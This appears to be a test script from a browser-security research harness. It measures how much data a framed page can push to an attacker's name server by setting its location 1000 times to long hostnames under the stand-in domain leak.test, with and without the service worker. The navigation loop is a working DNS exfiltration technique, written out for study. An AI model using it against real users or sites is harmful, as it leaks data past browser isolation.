// How much one task that sets the frame's location a thousand times brings to the
// attacker's name server, on a first visit, and on one without the service worker's headers: its
// control. Prints, of both, how many names of how many bytes, and how many requests:
//
//   attempts/apart.sh node attempts/size.js
import { setTimeout as sleep } from "node:timers/promises";
import { loaded, ordinary, scratch, serve } from "../harness.js";
import { Servers } from "./servers.js";

const TIMES = 1000;
const QUIET = 3000; // milliseconds without a name, after which no more is waited for

const servers = await Servers.start();
let [names, requests, last] = [new Set(), 0, 0];
servers.arrivals.find = (by, text) => {
  if (by === "DNS" && /^n\d+\..*\.leak\.test$/.test(text)) names.add(text);
  if (by.startsWith("HTTP") && text.includes("leak")) requests++;
  last = Date.now();
};

async function measured(bare) {
  const site = await serve();
  const context = await ordinary(scratch());
  if (bare) await context.addInitScript(() => Object.defineProperty(Navigator.prototype, "serviceWorker", { value: undefined }));
  const page = await context.newPage();
  await page.goto(site.url);
  await page.waitForFunction(() => performance.getEntriesByName("quasi-ready").length);
  const frame = page.frames().find((frame) => frame.parentFrame() === page.mainFrame());
  await loaded(frame);
  [names, requests, last] = [new Set(), 0, Date.now()];
  const go = ([times, port]) =>
    void setTimeout(() => {
      const label = "x".repeat(60);
      for (let i = 0; i < times; i++) location = `http://n${i}.${label}.${label}.${label}.leak.test:${port}/leak`;
    });
  await frame.evaluate(go, [TIMES, servers.http.port]);
  while (Date.now() - last < QUIET) await sleep(50);
  await context.close();
  await site.stop();
  return { names: names.size, bytes: [...names].join("").length, requests };
}

const result = { control: await measured(true), first: await measured(false) };
servers.stop();
process.stdout.write(JSON.stringify(result), () => process.exit());
